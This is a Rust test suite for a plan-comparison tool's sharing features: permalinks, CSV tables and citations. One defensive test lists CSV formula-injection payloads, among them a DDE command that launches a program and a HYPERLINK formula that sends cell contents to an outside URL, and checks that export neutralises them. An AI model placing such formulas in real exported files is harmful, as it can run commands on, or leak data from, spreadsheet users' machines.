//! What readers take along, as text: links that lead back to what was chosen, tables that no
//! spreadsheet computes, citations with all that finds a statement again.

#![cfg(not(target_arch = "wasm32"))]

use std::sync::Arc;

use plan_compare::compare::{Selection, SelectionRequest, View};
use plan_compare::localize::{Formatter, IcuFormatter, Localizer, Messages};
use plan_compare::model::{CategoryIx, Dataset, Date, IssueIx, PartyIx, PlanIx};
use plan_compare::schema;
use plan_compare::share;
use plan_compare::share::permalink::{decode, encode, find, merge};
use proptest::prelude::*;
use proptest::{
    sample::subsequence,
    test_runner::{RngSeed, TestRunner},
};
use serde_json::json;

const DATASETS: [&str; 2] = [
    include_str!("../data/ukraine-peace-plans.json"),
    include_str!("../data/city-budget-example.json"),
];

struct Digits;

impl Formatter for Digits {
    fn number(&self, value: f64) -> String {
        value.to_string()
    }
    fn money(&self, value: f64, currency: &str) -> String {
        format!("{currency} {value}")
    }
    fn percent(&self, value: f64) -> String {
        format!("{value}%")
    }
    fn date(&self, date: Date) -> String {
        date.to_string()
    }
    fn letters(&self, letter: char) -> String {
        letter.to_lowercase().to_string()
    }
    fn plural(&self, _: usize) -> &'static str {
        "other"
    }
}

fn words(dataset: &Dataset, language: &str) -> Localizer {
    let (dataset, language) = (Arc::new(dataset.clone()), language.to_owned());
    Localizer::new(dataset, language, "en".to_owned(), Messages::english(), Arc::new(Digits))
}

fn read(text: &str) -> Dataset {
    schema::read(text).expect("a dataset").dataset
}

/// Checks `law` on values of `strategy`, which are the same ones in every run.
#[track_caller]
fn check_law<S: Strategy<Value: std::fmt::Debug>>(
    strategy: S,
    law: impl Fn(S::Value) -> Result<(), TestCaseError>,
) {
    let config = ProptestConfig {
        cases: 300,
        failure_persistence: None,
        rng_seed: RngSeed::Fixed(20_251_120),
        ..ProptestConfig::default()
    };
    if let Err(error) = TestRunner::new(config).run(&strategy, law) {
        panic!("{error}");
    }
}

/// Anything that can be chosen of a dataset, but no plan at all.
fn selection(dataset: &Dataset) -> impl Strategy<Value = Selection> + use<> {
    let indices = |n: usize| (0..n).collect::<Vec<_>>();
    let (n_plans, n_issues) = (dataset.plans.len(), dataset.issues.len());
    let some = |n: usize| prop::option::of(0..n);
    let has_data: Vec<View> = View::ALL.into_iter().filter(|view| view.has_data(dataset)).collect();
    let lists = (
        subsequence(indices(n_plans), 1..=n_plans).prop_shuffle(),
        subsequence(indices(n_issues), 0..=n_issues).prop_shuffle(),
        prop::option::of(subsequence(indices(n_plans), 2).prop_shuffle()),
        prop_oneof!["[a-z ;&=#%+:.,їé’\"]{0,12}", ".{0,12}"],
    );
    let ones = (
        prop::option::of(prop::sample::select(has_data)),
        some(n_plans),
        some(dataset.categories.len()),
        some(n_plans),
        some(dataset.parties.len()),
        any::<(bool, bool)>(),
    );
    (lists, ones).prop_map(|((plans, open, pair, query), ones)| {
        let (view, baseline, category, about, party, (only_differences, contested_first)) = ones;
        Selection {
            view,
            plans: plans.into_iter().map(PlanIx).collect(),
            baseline: baseline.map(PlanIx),
            only_differences,
            category: category.map(CategoryIx),
            query,
            open: open.into_iter().map(IssueIx).collect(),
            pair: pair.map(|pair| (PlanIx(pair[0]), PlanIx(pair[1]))),
            about: about.map(PlanIx),
            party: party.map(PartyIx),
            contested_first,
        }
    })
}

#[test]
fn a_link_leads_back_to_what_was_chosen_whatever_the_default() {
    for text in DATASETS {
        let dataset = read(text);
        check_law((selection(&dataset), selection(&dataset)), |(chosen, default)| {
            let link = encode(&dataset, &chosen, &default);
            let mut found = default.clone();
            let unknown = found.apply(&decode(&link), &dataset);
            prop_assert!(unknown.is_empty(), "{link}: {unknown:?}");
            prop_assert_eq!(&found, &chosen, "{}", link);
            let fragment = merge("section-2", "plan-compare-x", &link);
            prop_assert_eq!(find(&fragment, "plan-compare-x").unwrap_or_default(), &link);
            let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-:;+%".contains(&byte);
            prop_assert!(link.bytes().all(is_plain), "{}", link);
            Ok(())
        });
    }
}

#[test]
fn a_link_is_short_and_says_only_what_differs() {
    let dataset = read(DATASETS[0]);
    let all = Selection::all(&dataset);
    let asked = |request: &SelectionRequest| {
        let mut selection = all.clone();
        assert_eq!(selection.apply(request, &dataset), []);
        selection
    };
    let ids = |ids: &str| Some(ids.split(' ').map(str::to_owned).collect());
    let id = |id: &str| Some(id.to_owned());
    let everything = asked(&SelectionRequest {
        view: id("changes"),
        plans: ids("us28 e3"),
        baseline: id("us28"),
        differences: Some(true),
        category: id("security"),
        query: id("cease fire; 100%."),
        issues: ids("nato military-cap"),
        pair: ids("us28 p20"),
        about: id("p20"),
        party: id("ua"),
        contested_first: Some(true),
    });
    assert_eq!(encode(&dataset, &all, &all), "");
    assert_eq!(encode(&dataset, &everything, &everything), "");
    assert_eq!(
        encode(&dataset, &everything, &all),
        "v:changes;p:us28+e3;b:us28;d:1;c:security;q:cease%20fire%3B%20100%25%2E;\
         i:nato+military-cap;m:us28+p20;a:p20;y:ua;f:1"
    );
    assert_eq!(encode(&dataset, &all, &everything), "v:;p:;b:;d:0;c:;q:;i:;m:;a:;y:;f:0");
    let none = Selection { plans: Vec::new(), ..all.clone() };
    assert_eq!(encode(&dataset, &none, &all), "", "no plan reads as all plans");
}

#[track_caller]
fn check_decoding(text: &str, expected: SelectionRequest) {
    assert_eq!(decode(text), expected, "{text}");
}

#[test]
fn what_means_nothing_is_left_out_and_the_rest_counts() {
    let nothing = SelectionRequest::default;
    for text in ["", ";", ";;:", "z:1", "d:yes", "f:2", "q:%", "q:%4", "q:%zz", "q:%ff", "c:%C3%28"]
    {
        check_decoding(text, nothing());
    }
    let differences = || SelectionRequest { differences: Some(true), ..nothing() };
    check_decoding("q:%E2%82;d:1;zz;w:4:5", differences());
    check_decoding("d", SelectionRequest { differences: Some(false), ..nothing() });
    check_decoding("b", SelectionRequest { baseline: Some(String::new()), ..nothing() });
    check_decoding("q:a:b", SelectionRequest { query: Some("a:b".to_owned()), ..nothing() });
    check_decoding(
        "p:+a++b+",
        SelectionRequest { plans: Some(vec!["a".into(), "b".into()]), ..nothing() },
    );
    check_decoding("q:%d0%B9", SelectionRequest { query: Some("й".to_owned()), ..nothing() });
}

#[test]
fn no_address_breaks_anything() {
    let dataset = read(DATASETS[1]);
    let text =
        || prop_oneof![".{0,60}", "[a-z:;+%0-9&=#]{0,60}", "([vpbdcqimayf]:[a-z%+]{0,9};){0,9}"];
    check_law((text(), text(), text()), |(fragment, key, value)| {
        let mut selection = Selection::all(&dataset);
        selection.apply(&decode(&value), &dataset);
        prop_assert!(!selection.plans.is_empty());
        let decoded = find(&fragment, &key).map(decode);
        prop_assert!(decoded.is_none() || fragment.contains('='));
        merge(&fragment, &key, &value);
        Ok(())
    });
}

#[track_caller]
fn check_merge(fragment: &str, value: &str, expected: &str) {
    assert_eq!(merge(fragment, "plan-compare-é", value), expected, "{fragment} with {value}");
}

#[test]
fn the_parts_of_others_stay_exactly_as_they_are() {
    check_merge("", "d:1", "plan-compare-%C3%A9=d:1");
    check_merge("", "", "");
    check_merge("section-2", "d:1", "section-2&plan-compare-%C3%A9=d:1");
    check_merge("section-2", "", "section-2");
    check_merge("a=%2f&plan-compare-%c3%a9=d:0&b", "d:1", "a=%2f&plan-compare-%C3%A9=d:1&b");
    check_merge("a&plan-compare-é=d:0&b", "", "a&b");
    check_merge("plan-compare-é=d:0", "", "");
    check_merge("plan-compare-é=1&x&plan-compare-é=2", "b:n", "plan-compare-%C3%A9=b:n&x");
    check_merge("plan-compare-éa=1&plan-compare-é", "b:n", {
        "plan-compare-éa=1&plan-compare-é&plan-compare-%C3%A9=b:n"
    });
    check_merge("&a&&b=&", "d:1", "&a&&b=&&plan-compare-%C3%A9=d:1");
    check_merge("%&=&%zz=1", "d:1", "%&=&%zz=1&plan-compare-%C3%A9=d:1");
}

#[test]
fn a_part_is_found_by_its_whole_name() {
    let fragment = "plan-compare-ab=x&plan-compare-a=y:1=2&plan-compare-a=z";
    assert_eq!(find(fragment, "plan-compare-a"), Some("y:1=2"));
    assert_eq!(find(fragment, "plan-compare"), None);
    assert_eq!(find("plan-compare-a", "plan-compare-a"), None);
    assert_eq!(find("plan-compare-a=", "plan-compare-a"), Some(""));
    assert_eq!(find("", ""), None);
}

/// Two plans and three issues, with everything that a file must not stumble over.
fn harbour() -> Dataset {
    read(
        &json!({
            "format": "plan-compare/1", "id": "harbour", "version": "1.2", "as_of": "2026-08",
            "title": {"en": "Who gets the harbour?", "uk": "Кому порт?"},
            "sources": [
                {"id": "a", "publisher": "Post", "title": "The \"plan\", in full",
                 "url": "https://example.org/a?b=1,2", "published": "2026-03-01"},
                {"id": "b", "title": "Minutes"}],
            "plans": [{"id": "old", "name": "Old; plan", "date": "2025"},
                      {"id": "new", "name": {"en": "New", "uk": "Новий"}}],
            "categories": [{"id": "sea", "name": "Sea, and water"}],
            "issues": [{"id": "depth", "name": "Depth", "category": "sea"},
                       {"id": "cranes", "name": {"en": "Cranes", "uk": "Крани"}},
                       {"id": "noise", "name": "Noise"}],
            "provisions": [
                {"plan": "old", "issue": "depth", "coverage": "stated", "summary": "Deeper.\nMuch",
                 "quantity": {"min": 10, "unit": "m"}, "point": "6", "sources": ["a", "b"]},
                {"plan": "new", "issue": "depth", "coverage": "stated", "summary": "12 m, say \"12\"",
                 "quantity": {"value": 12, "unit": "m"}},
                {"plan": "old", "issue": "cranes", "coverage": "silent", "sources": ["b"]},
                {"plan": "new", "issue": "cranes", "coverage": "stated",
                 "summary": {"en": "Two", "uk": "Два"}}],
        })
        .to_string(),
    )
}

#[test]
fn a_table_has_a_row_for_each_issue_and_two_columns_for_each_plan() {
    let dataset = harbour();
    let issues = [IssueIx(0), IssueIx(1), IssueIx(2)];
    let csv = share::csv(&words(&dataset, "en"), &[PlanIx(0), PlanIx(1)], &issues);
    let expected = [
        "Category,Issue,\"Old; plan\",\"Old; plan: sources\",New,New: sources",
        "\"Sea, and water\",Depth,\"at least 10\u{a0}m: Deeper.\nMuch\",\
         \"Post: The \"\"plan\"\", in full https://example.org/a?b=1,2 | Minutes\",\
         \"12 m, say \"\"12\"\"\",",
        ",Cranes,Not addressed,Minutes,Two,",
        ",Noise,Not reported,,Not reported,",
        "",
    ];
    assert_eq!(csv, expected.join("\r\n"));
}

#[test]
fn a_table_holds_what_is_shown_in_its_order_and_the_reader_s_language() {
    let dataset = harbour();
    let csv = share::csv(&words(&dataset, "uk"), &[PlanIx(1)], &[IssueIx(2), IssueIx(1)]);
    let expected = "Category,Issue,Новий,Новий: sources\r\n,Noise,Not reported,\r\n,Крани,Два,\r\n";
    assert_eq!(csv, expected);
    let empty = share::csv(&words(&dataset, "en"), &[], &[]);
    assert_eq!(empty, "Category,Issue\r\n");
}

#[test]
fn full_texts_conflicts_and_answers_are_in_the_table_where_there_are_any() {
    let dataset = read(include_str!("fixtures/complete.json"));
    let csv = share::csv(&words(&dataset, "en"), &[PlanIx(1)], &[IssueIx(0)]);
    let expected = [
        "Category,Issue,New plan,New plan: answer,New plan: full text,New plan: reports that differ,\
         New plan: sources",
        "Water,Depth,10 to 12\u{a0}m: Ten metres,\"Ten metres or more, Nine metres\",\
         The basin is dredged to ten metres.,The map gives nine metres. (Map),\
         Harbour log: Minutes https://example.org/log",
        "",
    ];
    assert_eq!(csv, expected.join("\r\n"));
}

#[test]
fn where_the_comma_is_in_numbers_cells_are_parted_by_a_semicolon() {
    let dataset = Arc::new(read(include_str!("fixtures/complete.json")));
    let table = |language: &str| {
        let (language, formatter) = (language.to_owned(), IcuFormatter::new(language));
        let localizer = Localizer::new(
            Arc::clone(&dataset),
            language.clone(),
            language,
            Messages::english(),
            Arc::new(formatter),
        );
        share::csv(&localizer, &[PlanIx(1)], &[IssueIx(0)])
    };
    for language in ["de", "fr", "pl", "uk", "es"] {
        assert!(table(language).starts_with("Category;Issue;New plan;"), "{language}");
    }
    for language in ["en", "en-GB", "ar", "es-MX"] {
        assert!(table(language).starts_with("Category,Issue,New plan,"), "{language}");
    }
}

/// The second line of a table of one issue with this name, without its quotes.
fn cell_of(name: &str) -> String {
    let dataset = json!({
        "format": "plan-compare/1", "id": "d", "title": "T",
        "plans": [{"id": "p", "name": name}], "issues": [{"id": "i", "name": name}],
        "provisions": [{"plan": "p", "issue": "i", "coverage": "stated", "summary": name}],
    });
    let dataset = read(&dataset.to_string());
    let csv = share::csv(&words(&dataset, "en"), &[], &[IssueIx(0)]);
    let row = csv.strip_prefix("Category,Issue\r\n,").expect("the header");
    let cell = row.strip_suffix("\r\n").expect("the end of a row");
    let unquoted = cell.strip_prefix('"').and_then(|cell| cell.strip_suffix('"'));
    unquoted.map_or(cell.to_owned(), |cell| cell.replace("\"\"", "\""))
}

#[test]
fn no_cell_begins_as_a_formula_does() {
    let hostile = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://example.org/?\"&A1,\"more\")",
        "+1",
        "-1+2",
        "@SUM(A1)",
        " =1",
        "\t1",
        "\r1",
        "\u{feff}=1",
        "\u{202e}=1",
        "\"=1\"",
        "＝1+1",
        "＋1",
        "＠SUM(A1)",
        " ＝1",
    ];
    for name in hostile {
        // What turns the direction of text is turned back at its end.
        let cell = cell_of(name).replace('\u{202c}', "");
        assert_eq!(cell, format!("'{name}"), "{name:?}");
    }
    // Nor in a program that expects another separator, and so no heed of the quotes.
    for (name, cell) in [
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\n=1", "'\n'=1"),
        ("a;=1;b", "a;'=1;b"),
        ("a; \"=1\"", "a;' \"=1\""),
        ("a\n- b\n+c", "a\n'- b\n'+c"),
        (";;\t@a", ";;'\t'@a"),
    ] {
        assert_eq!(cell_of(name), cell, "{name:?}");
    }
    for name in ["1", "a=1", "'=1", "a;1", "a\nb", "a, -1", "(1)", "–", "−1", "Ні", "~", " a", "%0"]
    {
        assert_eq!(cell_of(name), name, "{name:?}");
    }
}

#[test]
fn every_kind_of_cell_is_made_harmless() {
    let formula = "=1";
    let dataset = read(
        &json!({
            "format": "plan-compare/1", "id": "d", "title": "T",
            "sources": [{"id": "s", "publisher": formula}],
            "plans": [{"id": "p", "name": formula}],
            "categories": [{"id": "c", "name": formula}],
            "issues": [{"id": "i", "name": formula, "category": "c"}],
            "provisions": [{"plan": "p", "issue": "i", "coverage": "stated", "summary": formula,
                            "sources": ["s"]}],
        })
        .to_string(),
    );
    let csv = share::csv(&words(&dataset, "en"), &[PlanIx(0)], &[IssueIx(0)]);
    assert_eq!(csv, "Category,Issue,'=1,'=1: sources\r\n'=1,'=1,'=1,'=1\r\n");
}

#[test]
fn a_citation_has_all_that_finds_a_statement_again() {
    let dataset = harbour();
    let words = words(&dataset, "en");
    let cite = |issue, plan| {
        share::citation(&words, IssueIx(issue), PlanIx(plan), "https://example.org/x#y")
    };
    assert_eq!(
        cite(0, 0),
        "Depth: at least 10\u{a0}m: Deeper. Much. Old; plan, 2025, point 6. Sources: Post: The \
         \"plan\", in full, 2026-03-01, https://example.org/a?b=1,2; Minutes. Who gets the \
         harbour? Version 1.2. As of 2026-08. https://example.org/x#y"
    );
    assert_eq!(
        cite(1, 1),
        "Cranes: Two. New. Who gets the harbour? Version 1.2. As of 2026-08. \
         https://example.org/x#y"
    );
    assert!(cite(1, 0).starts_with("Cranes: Not addressed. Old; plan, 2025. Sources: Minutes."));
}

#[test]
fn a_citation_of_a_dataset_with_little_in_it_has_no_gaps() {
    let dataset = read(
        r#"{"format": "plan-compare/1", "id": "d", "title": "T", "plans": [{"id": "p", "name": "P"}],
            "issues": [{"id": "i", "name": "I"}],
            "provisions": [{"plan": "p", "issue": "i", "coverage": "stated", "summary": "S."}]}"#,
    );
    let citation = share::citation(&words(&dataset, "en"), IssueIx(0), PlanIx(0), "https://e.org/");
    assert_eq!(citation, "I: S. P. T. https://e.org/");
}
